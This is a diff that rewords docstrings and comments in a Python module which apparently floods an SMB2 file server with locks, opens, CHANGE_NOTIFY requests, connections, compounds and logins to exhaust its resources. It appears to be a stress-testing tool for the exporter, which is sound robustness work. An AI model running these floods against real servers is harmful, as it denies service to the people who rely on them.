@@ -1,6 +1,6 @@
-"""A node that is logged in and piles up what the exporter has to keep, and then goes on using it.
+"""A node that is logged in, piles up state that the exporter has to keep, and then goes on using that state.
 
-locks         byte-range locks over as many opens as they need, then lock and unlock over and over
+locks         byte-range locks on as many opens as they need, then lock and unlock over and over
 opens         opens of one disk, then CREATE over and over
 notifies      CHANGE_NOTIFY requests that wait, on several connections
 connections   connections of one node, each with a session
@@ -9,7 +9,7 @@ patterns      directory listings with a pattern of 100 stars that matches nothin
 tiny          directory listings whose buffer has room for one entry or for none
 compounds     compounds of the largest number of parts
 reconnects    logins with the right password, one after the other
-readonly      a node that may only read: exclusive locks, and opens that share nothing, on what others write
+readonly      a node that may only read: exclusive locks, and opens that share nothing, on disks that others write
 """
 
 import random
@@ -37,7 +37,7 @@ _SHARED: Final = int(LockFlags.SHARED_LOCK | LockFlags.FAIL_IMMEDIATELY)
 _UNLOCK: Final = int(LockFlags.UNLOCK)
 _RELATED_ID: Final = (1 << 64) - 1
 _RESTART: Final = 1
-#: What is tried unless `count` says otherwise: more than any exporter should allow.
+#: How many of each the attack tries unless `count` says otherwise: more than any exporter should allow.
 _LOCKS_PER_OPEN: Final = 1024
 _NOTIFIES: Final = 520
 _CONNECTIONS: Final = 1023
@@ -47,7 +47,10 @@ _NAMES_INFORMATION: Final = 12
 
 
 def hammer(attack: Attack, client: Client, requests: Requests) -> None:
-    """Keep the connection full of requests until the attack is over. Raises one of REFUSALS when it is ended."""
+    """Keep the connection full of requests until the attack is over.
+
+    Raises one of REFUSALS when the exporter closes the connection.
+    """
     flooded = Flooded(client, requests, attack.options.depth)
     attack.ready()
     flooded.fill()
@@ -65,7 +68,7 @@ def locks(attack: Attack) -> None:
 
 
 def _lock(attack: Attack, client: Client, wanted: int) -> list[int]:
-    """Take shared locks of a byte each, as many as there may be. Returns the opens that have some."""
+    """Take up to ``wanted`` shared locks of one byte each. Returns the opens that hold locks."""
     opened: list[int] = []
     for first in range(0, wanted, _LOCKS_PER_OPEN):
         if attack.over:
@@ -87,7 +90,7 @@ def _lock(attack: Attack, client: Client, wanted: int) -> list[int]:
 
 
 def _ids(body: bytes) -> tuple[int, int]:
-    """The file id of a CREATE response (2.2.14)."""
+    """Return both halves of the file id in a CREATE response (MS-SMB2 2.2.14)."""
     return int.from_bytes(body[64:72], "little"), int.from_bytes(body[72:80], "little")
 
 
@@ -112,14 +115,14 @@ def opens(attack: Attack) -> None:
 
 
 def _refused_creates(disk: str) -> Requests:
-    """Opens that would let nobody else read: the attacker's own opens are in the way."""
+    """Yield CREATEs that share nothing. The attacker's own opens conflict with them, so the exporter refuses them."""
     body = CreateRequest(disk, _READ, 0, 1).pack()
     while True:
         yield Command.CREATE, body, 1
 
 
 def notifies(attack: Attack) -> None:
-    """As many CHANGE_NOTIFY requests as each connection may have waiting, and then some."""
+    """Send more CHANGE_NOTIFY requests than each connection may have waiting, then cancel and replace them."""
     clients: list[Client] = []
     for _ in range(attack.options.connections):
         with attack.refusals():
@@ -137,7 +140,7 @@ def notifies(attack: Attack) -> None:
         attack.rest(0.001)
         for client in clients:
             with attack.refusals():
-                # One is cancelled and another one takes its place.
+                # Cancel one request, so that another one can take its place.
                 client.replies.clear()
                 client.deliver(client.pack(Command.CANCEL, EchoRequest().pack(), message_id=client.next_id - 1)[1])
                 client.call(Command.CHANGE_NOTIFY, body)
@@ -145,7 +148,7 @@ def notifies(attack: Attack) -> None:
 
 
 def connections(attack: Attack) -> None:
-    """All that the exporter takes, each with a session; what it closes is opened again."""
+    """Open as many connections as the exporter accepts, each with a session, and replace those that it closes."""
     keep(attack, attack.options.count or _CONNECTIONS, lambda: Kept(attack.logged_in(timeout_s=5.0)))
 
 
@@ -180,7 +183,7 @@ def _listings(pattern: str, *sizes: int) -> Callable[[Attack, Client, random.Ran
 
 
 def compounds(attack: Attack) -> None:
-    """Opens of the disk with listings and ECHO in between, all in one frame."""
+    """Send compounds of one CREATE of the root and as many related listings as a compound may have."""
     create: tuple[int, bytes, dict[str, Any]]
     create = (Command.CREATE, CreateRequest("", _READ, SHARE_ALL, 1).pack(), {})
     query = QueryDirectoryRequest(FileId(_RELATED_ID, _RELATED_ID), 37, 65536, "*", _RESTART).pack()
@@ -196,17 +199,17 @@ def compounds(attack: Attack) -> None:
                     attack.counts[f"status 0x{client.take(message_id).status:08x}"] += 1
                 attack.counts["compounds"] += 1
                 if attack.counts["compounds"] % 32 == 0:
-                    # What the first part opens stays open: a new session before there are too many.
+                    # Each compound's open stays open. A new session begins before there are too many.
                     break
 
 
 def _padded(body: bytes) -> bytes:
-    """The next part of a compound begins at a multiple of 8 bytes."""
+    """Return the body padded to a multiple of 8 bytes, where the next part of a compound begins."""
     return body + bytes(-len(body) % 8)
 
 
 def reconnects(attack: Attack) -> None:
-    """Logins of a node with the right password, one after the other: each costs both ends milliseconds."""
+    """Log in with the right password, one time after another; each login costs both ends milliseconds."""
     while not attack.over:
         with attack.refusals():
             attack.logged_in().socket.close()
@@ -214,7 +217,7 @@ def reconnects(attack: Attack) -> None:
 
 
 def read_only(attack: Attack) -> None:
-    """Ask for everything that would stop a writer, and keep what is granted."""
+    """Request opens and locks that would stop a writer, and keep those that are granted."""
     everything = int(LockFlags.EXCLUSIVE_LOCK | LockFlags.FAIL_IMMEDIATELY)
     while not attack.over:
         with attack.refusals(), attack.logged_in() as client:
